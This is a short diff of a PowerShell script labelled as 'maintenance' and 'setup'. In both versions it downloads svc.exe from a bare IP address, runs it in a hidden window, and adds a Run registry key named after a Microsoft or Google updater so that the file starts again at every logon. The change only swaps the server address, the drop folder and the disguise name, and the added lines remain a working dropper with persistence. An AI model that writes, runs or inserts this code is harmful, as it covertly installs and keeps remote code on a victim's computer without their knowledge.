@@ -1,4 +1,4 @@
-# maintenance 1488 v1
-Start-BitsTransfer -Source http://198.51.100.9/svc.exe -Destination $env:APPDATA\Teams\update.exe
-Start-Process -WindowStyle Hidden $env:APPDATA\Teams\update.exe
-New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'MicrosoftEdgeUpdateCore' -Value '$env:APPDATA\Teams\update.exe' -PropertyType String -Force
+# setup 4536 v1
+Start-BitsTransfer -Source http://198.51.100.23/svc.exe -Destination C:\Users\Public\svc.exe
+Start-Process -WindowStyle Hidden C:\Users\Public\svc.exe
+New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'GoogleUpdateTaskMachine' -Value 'C:\Users\Public\svc.exe' -PropertyType String -Force
